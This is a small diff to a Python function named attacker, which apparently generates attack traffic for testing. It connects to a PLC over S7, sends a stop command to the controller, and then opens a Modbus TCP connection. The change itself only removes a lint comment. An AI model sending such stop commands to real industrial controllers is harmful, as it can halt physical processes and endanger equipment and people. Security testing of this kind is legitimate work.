@@ -98,7 +98,7 @@ def attacker(plc_addr: str) -> None:
     s7.connect(plc_addr, 0, 1)
     try:
         s7.plc_stop()
-    except Exception as e:  # noqa: BLE001 - the server may refuse; the request is on the wire either way
+    except Exception as e:
         print(f"plc_stop: {e}", file=sys.stderr)
     s7.disconnect()
     mb = ModbusTcpClient(plc_addr, port=502, timeout=2, retries=0)
